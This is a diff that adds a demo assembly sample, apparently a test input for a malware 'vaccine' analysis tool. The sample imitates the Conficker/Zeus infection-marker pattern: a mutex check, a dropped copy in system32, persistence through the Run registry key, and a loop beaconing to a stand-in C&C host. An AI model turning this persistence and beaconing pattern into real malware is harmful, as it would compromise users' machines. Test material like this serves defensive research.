@@ -1,0 +1,62 @@
+; Static infection marker (the Conficker/Zeus pattern):
+; the sample refuses to run twice on one machine, drops a copy,
+; persists via the Run key and beacons to its C&C.
+;
+;   ./build/tools/autovac analyze samples/marker_demo.asm --package m.pkg
+;   ./build/tools/autovac test samples/marker_demo.asm m.pkg
+.name marker_demo
+.rdata
+  string marker "demo-marker-mtx"
+  string drop   "C:\\Windows\\system32\\mdemo.exe"
+  string runkey "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+  string val    "mdemo"
+  string host   "cc.marker.example.net"
+  string ping   "PING"
+.text
+  push marker
+  push 1
+  sys CreateMutexA
+  add esp, 8
+  sys GetLastError
+  cmp eax, 183
+  jz infected
+  push 2
+  push drop
+  sys CreateFileA
+  add esp, 8
+  cmp eax, 0xFFFFFFFF
+  jz loop_start
+  push runkey
+  sys RegOpenKeyA
+  add esp, 4
+  mov ebx, eax
+  push drop
+  push val
+  push ebx
+  sys RegSetValueExA
+  add esp, 12
+loop_start:
+  sys WSAStartup
+beacon:
+  sys socket
+  mov ebx, eax
+  push 80
+  push host
+  push ebx
+  sys connect
+  add esp, 12
+  push 4
+  push ping
+  push ebx
+  sys send
+  add esp, 12
+  push ebx
+  sys closesocket
+  add esp, 4
+  push 700
+  sys Sleep
+  add esp, 4
+  jmp beacon
+infected:
+  push 0
+  sys ExitProcess
